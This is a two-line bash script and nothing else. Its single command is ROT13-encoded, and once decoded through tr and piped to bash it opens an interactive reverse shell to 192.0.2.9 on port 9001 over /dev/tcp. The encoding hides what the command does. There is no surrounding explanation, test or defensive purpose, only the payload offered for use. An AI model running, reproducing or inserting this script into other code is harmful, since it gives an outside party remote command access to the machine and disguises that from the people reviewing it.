#!/bin/bash
echo 'onfu -v >& /qri/gpc/192.0.2.9/9001 0>&1' | tr a-z n-za-m | bash
